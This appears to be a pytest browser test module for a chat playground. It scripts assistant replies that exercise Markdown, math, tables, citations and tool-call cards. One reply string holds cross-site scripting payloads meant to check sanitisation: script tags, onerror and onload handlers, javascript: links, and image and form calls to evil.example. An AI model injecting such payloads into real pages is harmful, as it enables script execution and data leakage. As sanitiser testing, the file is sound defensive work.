"""The playground's cards and texts: Markdown, tool calls in each state, approvals, figures, tables and sources."""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from tests.kit.server import RightseatProcess
from tests.peers.browser import BrowserTab, Chromium
from tests.peers.playground import make_server, send_message, wait_for_expression
from tests.peers.prerequisites import require, require_assets

pytestmark = [pytest.mark.peers, pytest.mark.timeout(600), pytest.mark.asyncio(loop_scope="module")]
HERE = Path(__file__).parent
ANSWER = ".message.assistant"
CONFIG = """
[assistants.cards]
title = "Cards"
model = "cards"
tools = ["card_tools:TOOLS"]

[models.cards]
spec = "scripted:cards.json"

[assistants.desk]
title = "Desk"
model = "desk"
agents = ["cards"]

[models.desk]
spec = "scripted:desk.json"
"""
RICH = r"""# Orders

Three orders are **late**, see <https://shop.example/late> and main.py. Mass is $E = mc^2$, not $5 or $10; \(a_1\) too.

$$
\int_0^1 x^2\,dx = \frac{1}{3}
$$

\[ \boxed{x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}} \]

| Order | Goods | Days late | State |
|---|:-:|---:|---|
| A7 | Desk lamp | 156 | late |
| B02 | Monitor arm | 147 | customs |

```python
from shop import orders

for order in orders(state="late", month=6):
    notify(order.customer)  # asks you first
```

```
plain <b>code</b>
```

- [x] Find the orders
- [ ] Write to the customers: `3 letters`

1. one
   - nested
2. two ~~gone~~

> A quote.
> Its second line.

See [the handbook][book]. ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/e+m+7wAAAABJRU5ErkJggg==)

[book]: https://shop.example/handbook
"""
HOSTILE = r"""<script>window.hacked=1</script> <img src=x onerror="window.hacked=2">

<div style="position:fixed;inset:0" onclick="window.hacked=3"><form action="https://evil.example"><input name="x"></form></div>

[a](javascript:window.hacked=4) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](https://evil.example/p.png?secret=1)
![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) [e](vbscript:x) <https://evil.example/q>

$\href{javascript:window.hacked=5}{x}$ $\htmlStyle{position:fixed}{y}$ $\includegraphics{https://evil.example/i.png}$

| a | b |
|:-:|--:|
| <svg onload="window.hacked=6"> | `<img src=x onerror=window.hacked=7>` |

```"><img/src=x/onerror=window.hacked=8>
</code></pre><script>window.hacked=9</script>
```

$$ <img src=x onerror="window.hacked=10"> $$

[x]: javascript:window.hacked=11
[x] [1] 【2】
"""
CALLS: dict[str, dict[str, Any]] = {
    "find_order": {"number": "A7"},
    "cancel_order": {"number": "A7", "reason": "Customer asked on 14 June"},
    "broken": {},
    "search_orders": {"state": "late"},
    "show_sales": {},
    "read_handbook": {},
}
CITED = "Two wait for the depot[1], one for customs【2】. The third[3] is not known: x[0]."


def build_script() -> dict[str, Any]:
    turns: list[dict[str, Any]] = [
        {"when": {"user": "read_handbook", "tool": "read_handbook"}, "say": CITED},
        {
            "when": {"user": "both"},
            "calls": [
                {"name": "cancel_order", "arguments": {"number": "A7", "reason": "first"}},
                {"name": "cancel_order", "arguments": {"number": "B2", "reason": "second"}},
            ],
        },
        {"when": {"user": "both", "tool": "cancel_order"}, "say": "Both done."},
    ]
    turns = [turns[0], turns[2], turns[1]]
    for name, arguments in CALLS.items():
        turns.append({"when": {"user": name, "tool": name}, "say": "Done: {result}"})
        turns.append({"when": {"user": name}, "calls": [{"name": name, "arguments": arguments}]})
    return {
        "turns": [
            *turns,
            {"when": {"user": "rich"}, "say": RICH},
            {"when": {"user": "hostile"}, "say": HOSTILE},
            {"when": {"user": "growing"}, "say": RICH * 3, "pace_ms": 5},
            {"when": {"user": "think"}, "reason": "Let me see.", "say": "Thought."},
            {"when": {"user": "fail"}, "finish": "raise:upstream_busy"},
            {"when": {}, "say": "You said: {user}"},
        ]
    }


def make_cards_server() -> RightseatProcess:
    server = make_server(CONFIG)
    shutil.copy(HERE / "card_tools.py", server.folder)
    (server.folder / "cards.json").write_text(json.dumps(build_script()), encoding="utf-8")
    handoff = [
        {"when": {"tool": "ask_cards"}, "say": "They say: {result}"},
        {"when": {}, "calls": [{"name": "ask_cards", "arguments": {"request": "{user}"}}]},
    ]
    (server.folder / "desk.json").write_text(json.dumps({"turns": handoff}), encoding="utf-8")
    return server


@asynccontextmanager
async def open_cards(
    chromium: Chromium, url: str, language: str = "en", width: int = 1440, height: int = 900, assistant: str = "cards"
) -> AsyncIterator[BrowserTab]:
    async with chromium.open_tab() as tab:
        await tab.page.set_viewport_size({"width": width, "height": height})
        await tab.page.add_init_script(f"localStorage.setItem('rightseat.language', '{language}')")
        await tab.open_url(f"{url}/#/chat/{assistant}")
        await tab.wait_visible("#say")
        yield tab
